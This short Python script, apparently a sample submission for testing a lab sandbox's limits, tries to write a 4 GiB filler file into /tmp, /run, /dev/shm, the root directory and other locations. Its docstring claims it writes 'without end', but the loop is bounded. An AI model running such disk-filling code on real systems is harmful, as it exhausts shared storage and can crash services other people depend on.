"""Writes to every place that it can find, without end."""

import os

for folder in ("/tmp", "/run", "/dev/shm", "/lab/submission", "/var/tmp", "/"):
    try:
        with open(os.path.join(folder, "filler"), "wb") as file:
            for _ in range(4096):
                file.write(b"x" * (1 << 20))
    except OSError as error:
        print(folder, error)
